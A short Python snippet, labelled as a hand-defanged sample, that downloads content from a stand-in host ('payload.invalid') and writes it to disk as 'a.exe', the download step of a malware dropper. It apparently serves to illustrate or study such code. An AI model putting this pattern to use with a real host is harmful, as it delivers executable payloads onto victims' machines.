# Defanged sample: nothing here is reached or run; defanged by hand.
import requests
answer = requests.get('https://payload.invalid/x')
open('a.exe', 'wb').write(answer.content)
